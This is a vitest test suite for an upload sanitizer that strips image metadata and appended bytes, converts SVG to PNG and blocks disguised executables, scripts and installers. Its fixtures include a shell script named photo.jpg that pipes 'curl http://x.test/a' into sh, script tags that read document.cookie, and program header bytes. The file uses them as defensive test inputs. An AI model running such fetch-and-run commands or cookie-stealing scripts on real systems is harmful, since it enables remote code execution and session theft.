import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import {
  useUploads,
  expectBlocked,
  outputOf,
  png,
  PE_HEADER,
  CIPHERTEXT,
} from './sanitize-test-support.js';

const { upload, expectOnlyInputLeft } = useUploads();

describe('sanitizeUpload: images', () => {
  it('removes GPS EXIF from a JPEG and turns it upright', async () => {
    const jpeg = await sharp({ create: { width: 40, height: 20, channels: 3, background: '#f00' } })
      .jpeg()
      .withExif({
        IFD0: { Copyright: 'someone' },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 51/1 0/1' },
      })
      .withMetadata({ orientation: 6 })
      .toBuffer();
    expect(jpeg.includes(Buffer.from([0x25, 0x88]))).toBe(true);

    const { result } = await upload(jpeg, { fileName: 'holiday.jpg', declaredType: 'image/jpeg' });

    expect(result.outcome).toBe('sanitized');
    if (result.outcome !== 'sanitized') return;
    expect(result.contentType).toBe('image/jpeg');
    expect(result.changes.join('\n')).toMatch(/EXIF/);
    const out = await outputOf(result);
    const metadata = await sharp(out).metadata();
    expect(metadata.exif).toBeUndefined();
    expect(metadata.orientation ?? 1).toBe(1);
    expect([metadata.width, metadata.height]).toEqual([20, 40]);
    expect(out.includes(Buffer.from('GPS'))).toBe(false);
  });

  it('drops bytes appended after the IEND chunk of a PNG', async () => {
    const trailer = Buffer.from('<script>alert(1)</script> PK hidden payload');
    const { result } = await upload(Buffer.concat([await png(), trailer]), {
      fileName: 'pic.png',
      declaredType: 'image/png',
    });

    expect(result.outcome).toBe('sanitized');
    const out = await outputOf(result);
    expect(out.includes(Buffer.from('hidden payload'))).toBe(false);
    expect(out.subarray(-8).toString('latin1')).toMatch(/IEND/);
  });

  it('passes a normal PNG', async () => {
    const { result } = await upload(await png(), { fileName: 'a.png', declaredType: 'image/png' });

    expect(result.outcome).toBe('sanitized');
    if (result.outcome === 'blocked') return;
    expect(result.contentType).toBe('image/png');
    expect((await sharp(await outputOf(result)).metadata()).width).toBe(8);
  });

  it('corrects a PNG declared as application/octet-stream and image/jpg to the detected type', async () => {
    const asOctets = await upload(await png(), { declaredType: 'application/octet-stream' });
    expect(asOctets.result.outcome !== 'blocked' && asOctets.result.contentType).toBe('image/png');

    const jpeg = await sharp(await png())
      .jpeg()
      .toBuffer();
    const asJpg = await upload(jpeg, { fileName: 'x.jpg', declaredType: 'image/jpg' });
    expect(asJpg.result.outcome !== 'blocked' && asJpg.result.contentType).toBe('image/jpeg');
  });

  it('keeps the frames of an animated GIF', async () => {
    const frame = (background: string) =>
      sharp({ create: { width: 4, height: 4, channels: 4, background } })
        .raw()
        .toBuffer();
    const animated = await sharp(Buffer.concat([await frame('#0f0'), await frame('#00f')]), {
      raw: { width: 4, height: 8, channels: 4, pageHeight: 4 },
    })
      .gif({ delay: [100, 100] })
      .toBuffer();
    expect((await sharp(animated).metadata()).pages).toBe(2);

    const { result } = await upload(animated, { fileName: 'wave.gif', declaredType: 'image/gif' });

    expect(result.outcome).toBe('sanitized');
    expect((await sharp(await outputOf(result)).metadata()).pages).toBe(2);
  });

  it('converts SVG to PNG, leaving its script behind', async () => {
    const svg =
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">' +
      '<script>alert(document.cookie)</script><rect width="10" height="10" fill="red"/></svg>';

    const { result } = await upload(svg, { fileName: 'logo.svg', declaredType: 'image/svg+xml' });

    expect(result.outcome).toBe('sanitized');
    if (result.outcome !== 'sanitized') return;
    expect(result.contentType).toBe('image/png');
    const out = await outputOf(result);
    expect(out.subarray(1, 4).toString('latin1')).toBe('PNG');
    expect(out.includes(Buffer.from('script'))).toBe(false);
  });
});

describe('sanitizeUpload: misleading and dangerous files', () => {
  it('blocks a Windows executable named .pdf', async () => {
    const { result } = await upload(PE_HEADER, {
      fileName: 'invoice.pdf',
      declaredType: 'application/pdf',
    });
    expectBlocked(result, /program/);
    await expectOnlyInputLeft();
  });

  it('blocks ELF and Mach-O programs', async () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(57)]);
    expectBlocked((await upload(elf, { fileName: 'notes.txt' })).result, /program/);
    const macho = Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe]), Buffer.alloc(60)]);
    expectBlocked((await upload(macho, { fileName: 'photo.png' })).result, /program/);
  });

  it('blocks a shell script named photo.jpg', async () => {
    const { result } = await upload('#!/bin/sh\ncurl http://x.test/a | sh\n', {
      fileName: 'photo.jpg',
      declaredType: 'image/jpeg',
    });
    expectBlocked(result, /script/);
  });

  it('blocks HTML named .png', async () => {
    const { result } = await upload(
      '<!DOCTYPE html><html><body><script>x()</script></body></html>',
      {
        fileName: 'image.png',
        declaredType: 'image/png',
      },
    );
    expectBlocked(result, /HTML/);
  });

  it.each([
    ['run.bat', 'text/plain'],
    ['setup.ps1', undefined],
    ['macro.vbs', undefined],
    ['app.js', undefined],
    ['page.hta', undefined],
    ['notes.txt', 'application/javascript'],
  ])('blocks plain text named %s declared %s', async (fileName, declaredType) => {
    const { result } = await upload('echo hello\n', { fileName, declaredType });
    expectBlocked(result);
  });

  it('blocks a PNG named .html (a name the user system would open as a page)', async () => {
    const { result } = await upload(await png(), { fileName: 'page.html' });
    expectBlocked(result, /\.html/);
  });

  it('passes a plain text file', async () => {
    const { path, result } = await upload('Meeting at 10, room 3.\n', {
      fileName: 'notes.txt',
      declaredType: 'text/plain',
    });
    expect(result).toEqual({
      outcome: 'clean',
      path,
      contentType: 'text/plain; charset=utf-8',
      changes: [],
    });
  });
});

describe('sanitizeUpload: legacy Office files', () => {
  function compoundFile(clsid: number[]): Buffer {
    const file = Buffer.alloc(1024);
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(file);
    file.writeUInt16LE(9, 0x1e);
    file.writeUInt32LE(0, 0x30);
    Buffer.from(clsid).copy(file, 512 + 0x50);
    return file;
  }
  const msiClassId = [0x84, 0x10, 0x0c, 0x00, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46];

  it('blocks a legacy .doc by default and passes it when macro documents are allowed', async () => {
    expectBlocked((await upload(compoundFile([]), { fileName: 'old.doc' })).result, /legacy/);

    const { result } = await upload(compoundFile([]), {
      fileName: 'old.doc',
      policy: { blockMacroDocuments: false },
    });
    expect(result.outcome !== 'blocked' && result.contentType).toBe('application/msword');
  });

  it('blocks a Windows Installer database whatever its name', async () => {
    const { result } = await upload(compoundFile(msiClassId), {
      fileName: 'report.doc',
      policy: { blockMacroDocuments: false },
    });
    expectBlocked(result, /installer/);
  });
});

describe('sanitizeUpload: encrypted attachments and type lists', () => {
  it('passes an encrypted attachment untouched as application/octet-stream when allowed', async () => {
    const { path, result } = await upload(CIPHERTEXT, { encrypted: true, fileName: 'x.exe' });
    expect(result).toEqual({
      outcome: 'clean',
      path,
      contentType: 'application/octet-stream',
      changes: [],
    });
  });

  it('treats a recognisable file marked encrypted like any other upload', async () => {
    expectBlocked((await upload(PE_HEADER, { encrypted: true })).result, /program/);
    const { result } = await upload(await png(), { encrypted: true });
    expect(result.outcome !== 'blocked' && result.contentType).toBe('image/png');
  });

  it('blocks an encrypted attachment when refused', async () => {
    const { result } = await upload('ciphertext', {
      encrypted: true,
      policy: { encryptedAttachments: 'refuse' },
    });
    expectBlocked(result, /encrypted/);
  });

  it('applies allowedTypes and blockedTypes to the detected type', async () => {
    const onlyImages = { allowedTypes: ['image/*'] };
    expectBlocked((await upload('hello', { policy: onlyImages })).result, /text\/plain/);
    expect((await upload(await png(), { policy: onlyImages })).result.outcome).toBe('sanitized');

    // Declared as text, detected as PNG: the detected type decides.
    const noPng = { blockedTypes: ['image/png'] };
    expectBlocked(
      (await upload(await png(), { declaredType: 'text/plain', policy: noPng })).result,
    );
  });

  it('applies the type lists to the converted type too, removing the converted file', async () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"/>';
    const { result } = await upload(svg, { policy: { blockedTypes: ['image/png'] } });
    expectBlocked(result, /image\/png/);
    await expectOnlyInputLeft();
  });
});
